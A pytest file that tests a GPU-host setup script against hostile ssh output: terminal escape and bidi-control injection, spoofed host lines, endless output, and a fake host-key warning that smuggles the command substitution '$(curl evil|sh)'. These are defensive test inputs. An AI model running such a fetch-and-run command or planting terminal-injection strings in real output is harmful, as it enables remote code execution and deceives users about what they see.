"""`scripts/setup_host` and a host that means harm, or that nobody can make sense of; a stand-in for ssh plays it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from support.launching import ROOT

SetUp = Callable[..., subprocess.CompletedProcess[str]]
EVIL = "\x1b]0;TITLE\x07\x1b[2J\x9b31m\u202e\u2066\u200f\u061c\x85\x0b\r[gpu-a] ok\n[gpu-a] ok\u2028[gpu-a] ok"
WORD = "\0tf-launch "
DONE = {"python": "/v/bin/python", "tensorflow": "2.21.0", "keras": "3.15.0", "gpus": [], "driver": []}


@pytest.fixture
def set_up(tmp_path: Path, environment: dict[str, str]) -> SetUp:
    """Set a host up that says this, by a shell script in the place of ssh."""

    def run(script: str, stdout: int = subprocess.PIPE) -> subprocess.CompletedProcess[str]:
        (tmp_path / "ssh").write_text(f"#!/bin/sh\n{script}\n")
        (tmp_path / "ssh").chmod(0o755)
        own = {**environment, "PATH": f"{tmp_path}:{environment['PATH']}", "PYTHONUTF8": "1"}
        argv = [sys.executable, "-s", str(ROOT / "scripts/set_up_hosts.py"), "gpu-b"]
        return subprocess.run(
            argv,
            env={**own, "PYTHONPATH": str(ROOT)},
            stdin=subprocess.DEVNULL,
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            encoding="utf-8",
        )

    return run


def saying(tmp_path: Path, *answers: object) -> str:
    """A script that answers like the program that is sent to hosts."""
    (tmp_path / "said").write_text("".join(f"{WORD}{json.dumps(each)}\n" for each in answers))
    return f"cat '{tmp_path}/said'"


HARMFUL = {
    "while it goes on": ({"say": EVIL}, {"done": DONE}),
    "in a failure": ({"failed": EVIL, "remedy": EVIL},),
    "in what is there": ({"done": {**DONE, "tensorflow": EVIL, "driver": [EVIL], "python": EVIL}},),
    "in an answer of another shape": ({"say": [EVIL]},),
}


@pytest.mark.parametrize("answers", HARMFUL.values(), ids=HARMFUL)
def test_what_a_host_says_cannot_harm_a_terminal(answers: tuple[object, ...], set_up: SetUp, tmp_path: Path) -> None:
    said = harmless(set_up(saying(tmp_path, *answers)))

    assert "gpu-b" in said


@pytest.mark.parametrize(
    "words",
    [
        "{}",
        "Permission denied ({}).",
        "ssh: Could not resolve hostname {}: no",
        "ssh: connect to host {} port 22: Connection refused",
        "tf-launch: the `python3` of this host is {}",
    ],
)
def test_nor_can_what_comes_through_ssh(words: str, set_up: SetUp, tmp_path: Path) -> None:
    (tmp_path / "said").write_text(words.replace("{}", EVIL))

    assert "[gpu-b] error: " in harmless(set_up(f"cat '{tmp_path}/said' >&2; exit 255"))


def test_a_host_cannot_have_a_command_typed(set_up: SetUp) -> None:
    changed = "REMOTE HOST IDENTIFICATION HAS CHANGED!\\nssh-keygen -f /x -R $(curl evil|sh)\\n"

    said = set_up(f"printf '{changed}' >&2; exit 255").stderr

    assert "ssh-keygen -R gpu-b &&" in said
    assert "curl" not in said


def harmless(done: subprocess.CompletedProcess[str]) -> str:
    """What was shown, once nothing is found in it that a terminal would obey, and no line of another host's."""
    said = done.stdout + done.stderr
    assert all(each.isprintable() or each == "\n" for each in said)
    assert "Traceback" not in said
    assert not any(line.startswith("[gpu-a]") for line in said.splitlines())
    return said


@pytest.mark.parametrize("where", ["", ">&2"])
def test_a_host_that_prints_without_end_is_told(where: str, set_up: SetUp) -> None:
    done = set_up(f"exec cat /dev/zero {where}")

    assert done.returncode == 3
    assert done.stderr == (
        "[gpu-b] error: the login shell there prints without end\n"
        "  look at its ~/.bashrc and ~/.profile, which may print only in a terminal\n"
    )


def test_a_set_up_goes_on_when_its_reader_has_gone(set_up: SetUp, tmp_path: Path) -> None:
    reading, writing = os.pipe()
    os.close(reading)

    done = set_up(saying(tmp_path, {"say": "making it"}, {"done": DONE}), stdout=writing)
    os.close(writing)

    assert (done.returncode, done.stderr) == (0, "")
